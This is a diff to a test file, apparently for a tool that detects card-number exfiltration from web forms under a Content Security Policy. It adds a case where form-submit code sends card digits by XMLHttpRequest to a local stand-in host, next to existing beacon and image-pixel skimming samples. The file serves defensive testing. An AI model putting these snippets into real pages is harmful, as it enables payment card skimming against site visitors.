@@ -116,6 +116,14 @@ navigator.sendBeacon('/half-2', number.slice(8));`),
     /^fetch and XMLHttpRequest/,
   ],
   [
+    'a binary XMLHttpRequest the CSP blocks',
+    onSubmit(`const request = new XMLHttpRequest();
+request.open('POST', 'http://127.0.0.2:8080/xhr');
+request.send(new TextEncoder().encode('pan=' + number.slice(8)));`),
+    /^XMLHttpRequest POST http:\/\/127\.0\.0\.2:8080\/xhr in .*, never sent: refused by the browser: digits after the first 8, plain/,
+    /^fetch and XMLHttpRequest/,
+  ],
+  [
     'an image the CSP blocks',
     onSubmit(`new Image().src = 'http://127.0.0.2:8080/pixel.gif?d=' + btoa(number);`),
     /^request to http:\/\/127\.0\.0\.2:8080\/pixel\.gif\?d=.* blocked by the CSP's img-src in .*: base64 of card number, plain/,
